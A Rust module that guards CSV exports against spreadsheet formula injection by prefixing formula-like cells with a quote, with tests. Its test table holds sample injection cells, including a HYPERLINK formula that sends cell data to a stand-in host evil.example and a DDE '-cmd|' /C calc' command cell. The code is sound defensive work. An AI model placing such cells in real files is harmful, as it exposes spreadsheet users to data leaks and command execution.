//! Spreadsheet formula neutralisation for CSV cells (OWASP "CSV Injection"): a cell
//! that starts with `=`, `+`, `-`, `@`, tab or carriage return is a formula to Excel,
//! LibreOffice and openpyxl, so every CSV the registry writes prefixes such a cell with
//! `'`, which makes it text. A number (`-12`, `-0.5`) is left alone: it is harmless and
//! should stay a number.
//!
//! The import undoes exactly what the export added ([`restore`]), so an exported file
//! re-imports unchanged. To make that exact, a value that already starts with `'`
//! followed by what would be neutralised (`'=x`) gets one more `'` too: [`restore`]
//! removes a leading `'` only where [`neutralise`] would have put it.
//!
//! The scope map's own list download (`http/page/scope-map.js`, `csvField`) follows the
//! same rule; `tests/e2e/bulk.rs` checks both against the same hostile cells.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `value` needs the `'` prefix: after any leading `'`s it starts like a
/// formula and is not a plain (possibly negative) decimal number.
fn needs_prefix(value: &str) -> bool {
    let rest = value.trim_start_matches('\'');
    rest.starts_with(FORMULA_STARTS) && !is_plain_number(rest)
}

/// `-12`, `-0.5`, `+3`: a sign, digits, optionally a fraction.
fn is_plain_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// The cell as a spreadsheet must receive it: `'` before anything that would be read as
/// a formula.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if needs_prefix(value) { Cow::Owned(format!("'{value}")) } else { Cow::Borrowed(value) }
}

/// The value [`neutralise`] was given: the `'` it added removed, anything else as is.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_prefix(rest) => rest,
        _ => cell,
    }
}

/// What to say about a corporate-number cell that Excel turned into a number (it shows
/// and saves 13 digits as `1.44444E+12`, or as `1444440000000.0`, losing digits), or
/// None when the text does not look like that.
pub fn excel_number_problem(text: &str) -> Option<String> {
    let text = text.trim();
    let scientific = text.split_once(['E', 'e']).is_some_and(|(mantissa, exponent)| {
        is_plain_number(mantissa) && is_plain_number(exponent.strip_prefix('+').unwrap_or(exponent))
    });
    let decimal = text.contains('.') && is_plain_number(text);
    (scientific || decimal).then(|| {
        format!(
            "\"{}\" is a corporate number that Excel turned into a number (it keeps 15 significant digits \
             and writes large numbers as 1.44444E+12, so digits are lost); format the column as text \
             before typing or pasting the numbers, or open the CSV through Data > From Text/CSV with \
             the column as text, or use the .xlsx export, which keeps them as text",
            super::text::excerpt(text)
        )
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// Cells that Excel, LibreOffice or openpyxl would evaluate, and what is written.
    const HOSTILE: [(&str, &str); 10] = [
        (r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, r#"'=HYPERLINK("http://evil.example/?x="&A1,"click")"#),
        ("=1+1", "'=1+1"),
        ("+81-3-1234-5678", "'+81-3-1234-5678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("'=already quoted", "''=already quoted"),
        ("''@twice", "'''@twice"),
    ];

    #[test]
    fn hostile_cells_are_prefixed_and_restored() {
        for (value, written) in HOSTILE {
            assert_eq!(neutralise(value), written, "{value:?}");
            assert_eq!(restore(written), value, "{written:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay_as_they_are() {
        for value in ["-12", "-0.5", "+3", "12", "", "東京電力", "O'Brien", "'s-Hertogenbosch", "a=b", "'-1"] {
            assert_eq!(neutralise(value), value, "{value:?}");
            assert_eq!(restore(value), value, "{value:?}");
        }
        // A lone sign or a malformed number is not a number.
        for value in ["-", "-.5", "-1.", "-1e5", "+-1"] {
            assert!(!is_plain_number(value), "{value:?}");
        }
    }

    #[test]
    fn excel_numbers_are_recognised() {
        for text in ["1.44444E+12", "7.00001E+12", "1.23456789012e12", "7000012050002.0"] {
            assert!(excel_number_problem(text).is_some_and(|m| m.contains("Excel")), "{text}");
        }
        for text in ["7000012050002", "７０００", "E+12", "1.2.3"] {
            assert_eq!(excel_number_problem(text), None, "{text}");
        }
    }

    proptest! {
        /// Whatever the text, restoring what was written gives it back, and what is
        /// written never starts like a formula.
        #[test]
        fn restore_undoes_neutralise(value in "['=+@\\-\t\r]{0,3}[a-z0-9.'=+\\-]{0,6}") {
            let written = neutralise(&value);
            prop_assert_eq!(restore(&written), value.as_str());
            prop_assert!(!written.starts_with(FORMULA_STARTS) || is_plain_number(&written));
        }
    }
}
